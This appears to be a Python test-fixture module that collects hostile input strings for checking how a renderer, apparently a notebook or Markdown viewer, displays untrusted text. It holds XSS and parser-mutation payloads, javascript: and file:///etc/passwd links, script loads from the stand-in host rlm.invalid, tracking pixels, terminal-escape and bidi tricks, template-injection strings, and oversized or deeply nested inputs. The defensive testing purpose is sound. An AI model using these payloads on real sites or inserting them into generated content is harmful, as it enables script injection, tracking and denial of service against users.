"""Hostile texts, and of each what a reader has to see of it.

What runs sets `pwned`, or asks the host `rlm.invalid` for something.
"""

from __future__ import annotations

from dataclasses import dataclass

__all__ = ["BIG", "SMALL", "Payload"]


@dataclass(frozen=True, slots=True)
class Payload:
    """One text; it may stand in any place."""

    text: str
    seen: str = ""
    """A part of it that is shown, as it is shown; all of it when this is empty."""
    prose: str = ""
    """The same where the text is read as Markdown; as in `seen` when this is empty."""

    @property
    def literal(self) -> str:
        """What is shown where text is shown as it is."""
        return self.seen or self.text

    @property
    def read(self) -> str:
        """What is shown where text is read as Markdown."""
        return self.prose or self.literal


ONERROR = "<img src=//rlm.invalid/x onerror=pwned=1>"
SCRIPT = "<script>pwned=1</script>"
ESC = "\x1b"

_HTML = [
    Payload(SCRIPT),
    Payload("<ScRiPt\t>pwned=1</sCrIpT\n>", "pwned=1</sCrIpT"),
    Payload("<script src=//rlm.invalid/x.js></script>"),
    Payload("<<script>pwned=1//<</script>"),
    Payload(f"</script>{SCRIPT}"),
    Payload(f"</textarea></pre></details></blockquote></div>{SCRIPT}"),
    Payload(f"</title></style></noscript></xmp></template></select>{SCRIPT}"),
    Payload(f'">{ONERROR}'),
    Payload(f"'/>{ONERROR}"),
    Payload('" onmouseover="pwned=1" x=\''),
    Payload("<svg/onload=pwned=1>"),
    Payload("<svg><script href=//rlm.invalid/s.js /><animate onbegin=pwned=1 attributeName=x dur=1s>"),
    Payload("<body onload=pwned=1 onpageshow=pwned=1>"),
    Payload("<details open ontoggle=pwned=1><summary>mine</summary>"),
    Payload("<input autofocus onfocus=pwned=1><select autofocus onfocus=pwned=1>"),
    Payload("<video><source onerror=pwned=1></video><audio src=//rlm.invalid/a onerror=pwned=1>"),
    Payload('<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>'),
    Payload("<iframe src=javascript:parent.pwned=1></iframe><frame src=//rlm.invalid/f>"),
    Payload('<object data="data:text/html,<script>pwned=1</script>"></object><embed src=//rlm.invalid/e>'),
    Payload(f"<template>{SCRIPT}</template><x-y onclick=pwned=1>"),
    Payload('<base href="//rlm.invalid/"><link rel=stylesheet href="//rlm.invalid/x.css">'),
    Payload('<meta http-equiv=refresh content="0;url=//rlm.invalid/">'),
    Payload("<form action=//rlm.invalid><button autofocus formaction=javascript:pwned=1>go</button></form>"),
    Payload('<a href="javascript:pwned=1" onclick=pwned=1 ping=//rlm.invalid/p>here</a>'),
    Payload("<button data-commandlinker-command=notebook:restart-run-all>run</button>"),
    Payload(f"<!-->{ONERROR}--> <!-- --!>"),
    Payload(f"<![CDATA[{SCRIPT}]]> <?xml pwned ?> <!DOCTYPE x>"),
    Payload(f"%%html {SCRIPT} %%javascript pwned=1"),
]
_MUTATION = [  # what a parser makes of it is not what a second parser makes of that
    Payload(f'<noscript><p title="</noscript>{ONERROR}">'),
    Payload(f"<svg><style>{ONERROR}</style></svg>"),
    Payload(f"<form><math><mtext></form><form><mglyph><style></math>{ONERROR}"),
    Payload(
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=pwned=1&gt;">',
        "<math><mtext><table><mglyph><style><!--</style><img title=",
    ),
    Payload("<textarea><title><xmp><plaintext>" + SCRIPT),
    Payload("&lt;script&gt;pwned=1&lt;/script&gt;", prose=SCRIPT),
    Payload("&amp;lt;script&amp;gt;&#x3c;b&#x3e;", prose="&lt;script&gt;<b>"),
    Payload(r"\x3cscript\x3epwned=1 \u003cimg src onerror=pwned=1\u003e"),
    Payload("<scr\0ipt>pwned=1</scr\0ipt>", r"<scr\x00ipt>pwned=1</scr\x00ipt>"),
    Payload("\uff1cscript\uff1epwned=1\uff1c/script\uff1e \u2039b\u203a"),
]
_STYLE = [
    Payload(
        "<style>@import '//rlm.invalid/x.css'; .rlm * { display: none }</style>", "<style>@import", "<style>@import"
    ),
    Payload("</style><div style='background:url(//rlm.invalid/b.png);position:fixed;inset:0'>over</div>"),
    Payload("red;background:url(//rlm.invalid/c.png);x:expression(pwned=1)"),
    Payload("<p class='jp-Dialog rlm-stop' id=main style=color:red>x</p>"),
]
_MARKDOWN = [
    Payload("[js](javascript:pwned=1)"),
    Payload("[js](JaVaScRiPt&colon;pwned=1)", prose="[js](JaVaScRiPt:pwned=1)"),
    Payload("[js](&#106;avascript:pwned=1)", prose="[js](javascript:pwned=1)"),
    Payload("[js](\x01javascript:pwned=1) [js](java\tscript:pwned=1)", r"[js](\x01javascript:pwned=1)"),
    Payload("[data](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)"),
    Payload("[vbs](vbscript:pwned=1) [file](file:///etc/passwd)"),
    Payload("[rel](//rlm.invalid/a) [root](/lab?reset) [here](#x) [cmd](command:pwned)"),
    Payload("<javascript:pwned=1> <data:text/html,x>"),
    Payload("[ref][r]\n\n[r]: javascript:pwned=1", "[r]: javascript:pwned=1"),
    Payload('[quote](https://rlm.invalid/"onmouseover="pwned=1)', prose="quote"),
    Payload('<https://rlm.invalid/"onclick="pwned=1>', 'https://rlm.invalid/"onclick="pwned=1'),
    Payload("![pixel](https://rlm.invalid/track.png)", prose="[image: pixel]"),
    Payload('![dot](https://rlm.invalid/t.png "x onerror=pwned=1")', prose="[image: dot]"),
    Payload("![late][p]\n\n[p]: https://rlm.invalid/track.png", "![late][p]", "[image: late]"),
    Payload("[![in](//rlm.invalid/a.png)](javascript:pwned=1)"),
    Payload('![x](x" onerror="pwned=1) ![y](data:image/svg+xml,<svg/onload=pwned=1>)', '![x](x" onerror="pwned=1)'),
    Payload(f"~~~html onerror=pwned=1\n{SCRIPT}", SCRIPT),
    Payload(f"`{SCRIPT}` ``{ONERROR}``", SCRIPT),
    Payload(f"Heading {ONERROR}\n===\n\n# {SCRIPT}\n---", SCRIPT),
    Payload(f"- [ ] {ONERROR}\n\n    {SCRIPT}\n1. x", SCRIPT),
    Payload(f"| a | b |\n|---|---|\n| {ONERROR} | [js](javascript:pwned=1) |", ONERROR),
]
_UNSEEN = [
    Payload(
        f"{ESC}[31mred{ESC}[0m {ESC}]8;;javascript:pwned=1\x07click{ESC}]8;;\x07 {ESC}]0;title\x07end", "red click end"
    ),
    Payload(f"{ESC}]8;;https://rlm.invalid{ESC}\\link{ESC}]8;;{ESC}\\ {ESC}[2J{ESC}[1;1Htop", "link top"),
    Payload("\x9b31mone\x9b0m \x90dcs\x9c two", r"one \x90dcs\x9c two"),
    Payload("abc\u202e\u2066txt.exe\u2069 \u200fx", r"abc\u202e\u2066txt.exe\u2069 \u200fx"),
    Payload("pass\u200bword\ufeff\u00ad \U000e0041", r"pass\u200bword\ufeff\xad \U000e0041"),
    Payload("half \ud800 and \udfff end", r"half \ud800 and \udfff end"),
    Payload("gone\rover\x08\x00\x07", r"over\x08\x00\x07"),
    Payload("a\u2028b\u2029c\x85d", r"a\u2028b\u2029c\x85d"),
    Payload("tower Z" + "\u0301\u0489" * 50, "tower Z"),
]
_SYNTAX = [  # of formulas and templates
    Payload(r"$\href{javascript:pwned=1}{x}$ and $y$ cost $5"),
    Payload(
        r"\(\unicode{x41}\) \[x\] $$\style{color:red}{y}$$ \begin{equation}x\end{equation}",
        prose=r"$$\style{color:red}{y}$$",
    ),
    Payload("{{7*7}} ${pwned=1} <%= pwned %> #{pwned} %(x)s {0} {pwned!r}"),
    Payload("constructor __proto__ toString valueOf", prose="constructor"),
]
SMALL = [*_HTML, *_MUTATION, *_STYLE, *_MARKDOWN, *_UNSEEN, *_SYNTAX]
"""Short ones, to be seen whole."""

BIG = [
    Payload("x" * 1_000_000, "x" * 60),
    Payload(f"{SCRIPT}{'W' * 100_000} {'V' * 100_000}", SCRIPT),
    Payload("> " * 3000 + f"deep {SCRIPT}", "> > > > >", "> > > > >"),
    Payload("- " * 3000 + "deep", "- - - - -", "- - - - -"),
    Payload("[" * 5000 + "](" * 5000, "[[[[["),
    Payload("![" * 5000 + "](x)" * 5000, "![![!["),
    Payload("*a " * 5000 + "_" * 5000, "*a *a"),
    Payload("`" * 5000 + "~" * 5000, "`" * 20, " "),
    Payload("<div><b>" * 10_000, "<div><b><div><b>"),
    Payload("&<" * 20_000, "&<&<&<"),
    Payload("start" + "\n" * 20_000 + "end", "start"),
    Payload("|".join("h" * 60) + "\n" + "|".join("-" * 60) + ("\n" + "|".join(["<b>"] * 60)) * 300, "h|h|h|h", "<b>"),
    Payload("\u0301" * 20_000 + "\u200d" * 20_000, "\u0301\u0301", "\u0301\u0301"),
    Payload(f"{ESC}]8;;{'u' * 50_000}{ESC}[{'1;' * 20_000}m tail", "uuuuu"),
]
"""Long and deep ones."""
